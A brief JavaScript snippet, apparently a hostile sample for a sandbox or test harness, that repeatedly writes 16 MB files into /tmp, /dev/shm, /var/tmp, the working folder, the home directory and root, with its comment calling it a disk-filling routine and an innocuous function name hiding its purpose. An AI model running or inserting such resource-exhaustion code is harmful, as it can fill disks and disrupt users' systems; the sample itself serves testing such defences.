// Files until the disk is full.
// at most: 0
const fs = await import('node:fs');
const bertPooler = () => {
  const block = Buffer.alloc(1 << 24, 1);
  for (let i = 0; i < 1e6; i++) {
    for (const folder of ['/tmp', '/dev/shm', '/var/tmp', '.', process.env.HOME, '/']) {
      try { fs.writeFileSync(`${folder}/lab-hostile-${i}`, block); } catch {}
    }
    if (i > 20) return null;
  }
};
